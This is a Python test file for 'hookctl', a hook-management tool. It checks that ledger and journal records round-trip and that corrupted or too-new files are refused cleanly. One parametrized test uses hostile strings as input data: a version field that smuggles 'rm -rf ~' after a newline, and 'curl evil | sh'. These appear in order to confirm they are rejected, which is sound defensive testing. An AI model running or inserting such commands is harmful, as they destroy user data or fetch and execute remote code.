"""The ledger: every shape comes back as it was, and bytes that are none are refused without a traceback."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from hookctl.errors import HookctlError
from hookctl.model import Claim, Entry, PackRecord, Record
from hookctl.ownership import store
from hookctl.ownership.execute import read_journal
from hookctl.system import folders
from tests.conftest import Hookctl, put

SCHEMA = json.loads((Path(__file__).parents[1] / "schemas" / "ledger.schema.json").read_text())
HANDLER = {"type": "command", "command": ": hookctl=guard/stop; exit 0", "timeout": 10}
ENTRIES = (
    Entry(("env", "A"), "leaf", "owned", None, "5", {"guard": Claim("5", "1.0")}),
    Entry(
        ("env", "B"), "leaf", "owned", "1e3", "é\u2028", {"p": Claim("5", "1.0", "max"), "q": Claim("7", "2", "max")}
    ),
    Entry(("env", "C"), "leaf", "owned", "", None, {"guard": Claim(None, "")}),
    Entry(("a", 0, "b"), "leaf", "adopted", None, {"x": [1, 2.5, True]}, {"x": Claim(1, "1")}),
    Entry(("hooks", "Stop"), "element", "owned", None, HANDLER, {"guard": Claim(HANDLER, "1")}, "guard/stop"),
    Entry(("hooks",), "container"),
    Entry(("hooks", "Stop"), "container"),
)
FILES, FORMER = ("claude.json", "c"), ("claude-user/hook.py",)
SETTINGS = {"mode": "off", "knobs": {"latch": False}}
PACK = PackRecord("1.0", SETTINGS, "/data/guard", FILES, FORMER, "/p/pack.toml", "a" * 64)
RECORDS = [
    Record("claude", "user", "json"),
    Record("claude", "user", "json", True, ("/a/b", "/a"), {"guard": PACK, "x": PackRecord("", {})}, "", "f" * 64),
    Record("claude", "user", "json", False, (), {"guard": PACK}, "0" * 64, "1" * 64, ENTRIES),
]


def own(ledger: Path) -> folders.Folders:
    """Folders of hookctl's own with this ledger."""
    return folders.Folders(str(ledger.parent), str(ledger.parent), {}, str(ledger.parent))


def valid(data: bytes) -> None:
    jsonschema.validate(json.loads(data), SCHEMA)


@pytest.mark.parametrize("record", RECORDS)
def test_every_record_comes_back_as_it_was(record: Record, tmp_path: Path) -> None:
    data = store.dump({"/x": record})
    valid(data)
    assert store.load(own(put(tmp_path / "ledger.json", data))) == {"/x": record}


@pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
@pytest.mark.parametrize("name", ["ledger", "journal"])
def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: Path, name: str, needs: Any) -> None:
    here = folders.here()
    put(Path(here.state) / f"{name}.json", json.dumps({f"{name}_version": 9, "needs": needs}))
    with pytest.raises(HookctlError) as caught:
        store.load(here) if name == "ledger" else read_journal(here)
    assert (caught.value.code, caught.value.message) == (
        "ledger_newer", "a later hookctl is needed to read this record"
    )  # fmt: skip


@pytest.mark.parametrize("data", [b"", b"\xff", b"[]", b"{", b'{"journal_version": 2}', b"[" * 100_000, b"1" * 5_000])
def test_no_command_raises_on_a_broken_ledger_or_journal(data: bytes, hookctl: Hookctl, settings: Path) -> None:
    assert hookctl("install", "--host", "claude").code == 0
    before = settings.read_bytes()
    own = folders.here()
    for path in (own.ledger, own.journal):
        there = Path(path).read_bytes() if Path(path).exists() else None
        put(Path(path), data)
        for command in ("install", "uninstall", "doctor"):
            outcome = hookctl(command, "--host", "claude", "--json")
            errors = [error["code"] for error in outcome.result["errors"]]
            assert command == "doctor" or (outcome.code, errors) == (4, ["ledger_unreadable"])
            assert command != "doctor" or (outcome.code, errors) == (1, [])
        assert hookctl("status").code in (0, 4)
        assert Path(path).read_bytes() == data
        Path(path).unlink() if there is None else Path(path).write_bytes(there)
    assert settings.read_bytes() == before
